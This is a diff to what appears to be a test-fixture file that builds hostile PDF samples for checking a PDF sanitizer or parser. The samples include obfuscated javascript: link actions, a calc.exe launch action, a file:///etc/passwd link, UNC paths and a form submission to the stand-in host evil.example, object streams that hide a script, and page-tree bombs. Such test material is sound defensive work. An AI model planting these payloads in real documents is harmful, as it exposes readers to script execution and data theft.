@@ -81,7 +81,7 @@ const ACTIONS: Record<string, Parts> = {
   'a program to start, on Windows': link('/A << /S /L#61unch /Win << /P (calc.exe) >> >>'),
   'an address that is a script': link('/A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
   'an address that is a script, in hexadecimal': link('/A << /S /URI /URI <6A617661736372697074 3A31> >>'),
-  'an address that is a script, escaped': link('/A << /S /URI /URI (\\152ava\\\nscript:1) >>'),
+  'an address that is a script, escaped': link('/A << /S /URI /URI (\\152ava\\\nscript\\0721) >>'),
   'an address that is a script, with a tab in it': link('/A << /S /URI /URI (java\tscript:1) >>'),
   'an address that is a script, by reference': link('/A << /S /URI /URI 7 0 R >>', [[7, '(javascript:1)']]),
   'an address that is a script, in 16 bits': link(
@@ -89,6 +89,9 @@ const ACTIONS: Record<string, Parts> = {
   ),
   'an address on this machine': link('/A << /S /URI /URI (file:///etc/passwd) >>'),
   'an address of another machine’s files': link('/A << /S /URI /URI (\\\\\\\\evil.example\\\\a) >>'),
+  'an address of another machine’s files, behind a space': link(
+    '/A << /S /URI /URI ( \\\\\\\\evil.example\\\\a) >>',
+  ),
   'a beginning of all addresses that is a script': { catalog: '/URI << /Base (javascript:) >>' },
   'a form that is sent': field('/A << /S /SubmitForm /F (https://evil.example) >>'),
   'a form that is filled from a file': field('/A << /S /ImportData /F (a.fdf) >>'),
@@ -231,6 +234,19 @@ function disguised(): HostilePdf[] {
       ),
     ),
     ambiguous(
+      'an object stream that is said to be packed in another way',
+      packedPage({}, { entries: '/Filter /LZWDecode' }),
+    ),
+    ambiguous(
+      'an object stream that begins on the next line for some',
+      onePage({ ...toHidden, objects: [[6, twoInOne()]] }),
+    ),
+    ambiguous(
+      'a stream that only the table makes an object stream',
+      packedPage({ ...toHidden, objects: [[7, SCRIPT]] }, { type: '', inside: [7] }),
+      true,
+    ),
+    ambiguous(
       'an object stream in hexadecimal',
       packedPage(
         {},
@@ -264,6 +280,18 @@ function disguised(): HostilePdf[] {
       }),
     ),
   ];
+}
+
+/** An object stream right behind its word, and another one on the next line. */
+function twoInOne(): Buffer {
+  const [harmless, evil] = ['7 0 null', `7 0 ${SCRIPT}`].map((content) => deflateSync(content));
+  return Buffer.concat([
+    Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream'),
+    harmless ?? Buffer.alloc(0),
+    Buffer.from('\n'),
+    evil ?? Buffer.alloc(0),
+    Buffer.from('\nendstream'),
+  ]);
 }
 
 /** The file whose table says that object 7 stands where this text is. */
@@ -376,6 +404,7 @@ function broken(): HostilePdf[] {
     'a million pages, as it says': pagesOf('3 0 R', 1_000_000),
     'more pages than it says': pagesOf('3 0 R 4 0 R', 1, [[4, HARMLESS_PAGE]]),
     'the same page twice': pagesOf('3 0 R 3 0 R', 2),
+    'the same page twice, counted once': pagesOf('3 0 R 3 0 R', 1),
     'pages that are below themselves': pagesOf('2 0 R', 1),
     'pages that double at every step': pagesOf(
       '10 0 R 10 0 R',
